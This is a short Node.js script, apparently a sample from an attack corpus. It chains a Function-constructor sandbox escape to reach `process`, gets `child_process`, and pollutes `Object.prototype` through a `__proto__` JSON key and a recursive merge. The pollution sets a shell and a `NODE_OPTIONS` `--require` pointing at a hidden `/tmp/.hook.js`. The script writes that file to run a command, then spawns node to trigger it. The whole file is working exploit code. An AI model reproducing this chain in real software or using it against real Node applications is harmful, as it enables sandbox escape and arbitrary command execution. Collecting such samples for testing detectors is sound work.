// corpus: arrow-function constructor chain to reach process, getBuiltinModule, and __proto__ pollution of spawn options
'use strict';
const proc = (() => {}).constructor.constructor('return process')();
const cp = typeof proc.getBuiltinModule === 'function'
  ? proc.getBuiltinModule('child_process')
  : proc.mainModule.require('child_process');

const patch = JSON.parse('{"__proto__": {"shell": "/bin/sh", "env": {"NODE_OPTIONS": "--require /tmp/.hook.js"}}}');
function merge(dst, src) {
  for (const k of Object.keys(src)) {
    if (typeof src[k] === 'object' && src[k] !== null) merge((dst[k] ??= {}), src[k]);
    else dst[k] = src[k];
  }
  return dst;
}
merge({}, patch);
require('fs').writeFileSync('/tmp/.hook.js', 'require("child_process").execSync("id > /tmp/.proto")');
cp.execFileSync('node', ['-e', '1']);
